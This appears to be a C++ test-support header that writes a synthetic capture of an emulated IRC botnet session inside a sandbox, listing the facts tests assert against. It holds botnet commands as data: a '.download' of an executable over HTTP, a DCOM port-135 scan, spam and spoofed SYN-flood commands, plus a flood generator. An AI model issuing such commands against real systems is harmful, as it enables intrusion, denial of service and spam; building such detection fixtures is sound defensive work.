#pragma once
// Traffic of an emulated 2005-era IRC bot inside the sandbox, written as a capture: it
// resolves its C&C name, logs in to IRC on a non-standard port, joins its channel, receives
// commands in the topic and from the operator, downloads an "update" over HTTP and TFTP,
// looks up MX records and sends a few spam mails to three servers, SYN-floods one address
// with spoofed sources and probes a few addresses on 135/tcp. Every address is in the
// sandbox's own network (10.66.0.0/24) and every behaviour is bounded (about 450 packets in
// all, within 6 s).
// The "executables" are inert bytes with an MZ/PE header, nothing that runs.

#include "support/pcapgen.h"

namespace botscope::testing {

/// Facts the emulated session contains, for tests to assert against.
struct BotFacts {
    static constexpr const char* kGuest = "10.66.0.10";
    static constexpr const char* kSinkhole = "10.66.0.1";
    static constexpr const char* kCncName = "irc.b0tnet.example";
    static constexpr std::uint16_t kIrcPort = 7000;
    static constexpr const char* kNick = "[USA|XP|SP2]-48213";
    static constexpr const char* kChannel = "#b0tz";
    static constexpr const char* kChannelKey = "s3cr3t";
    static constexpr const char* kPassword = "h4x0r";
    static constexpr const char* kTopicCommand = ".advscan dcom135 50 3 0 -r -s";
    static constexpr const char* kOperator = "b0ss";
    static constexpr const char* kDownloadCommand =
        ".download http://10.66.0.1/update.exe c:\\windows\\update.exe 1";
    static constexpr const char* kHttpPath = "/update.exe";
    static constexpr const char* kTftpFile = "wormride.exe";
    static constexpr const char* kSpamCommand = ".spam.start 3";
    static constexpr int kSpamMessages = 3;  ///< one each to three servers, after MX lookups
    static constexpr const char* kSpamSubject = "Cheap meds online";
    static constexpr const char* kFloodCommand = ".ddos.syn 10.66.0.200 80 2";
    static constexpr const char* kFloodTarget = "10.66.0.200";
    static constexpr std::uint16_t kFloodPort = 80;
    static constexpr int kFloodPackets = 200;  ///< over 2 s: 100 packets/s
    static constexpr int kFloodSources = 60;   ///< spoofed
    static constexpr std::uint16_t kScanPort = 135;
    static constexpr int kScanTargets = 20;
};

/// The inert "executable" the bot downloads (an MZ header, a PE signature, filler).
Bytes fake_pe(std::size_t size);

/// Appends the whole session to `w`, starting at `start`.
void emulate_bot_session(CaptureWriter& w, Timestamp start);

/// A SYN flood as a bot's `.ddos.syn` sends it: `packets` SYNs at `pps` to `target`, each from
/// a random source address in 10.0.0.0/8 and a random port (a deterministic generator seeded
/// with `seed`), nothing answered. Streams to disk: floods are too large to hold.
void spoofed_syn_flood(PcapStreamWriter& out, Timestamp start, const Endpoint& target,
                       std::uint64_t packets, std::uint64_t pps, std::uint64_t seed = 1);

}  // namespace botscope::testing
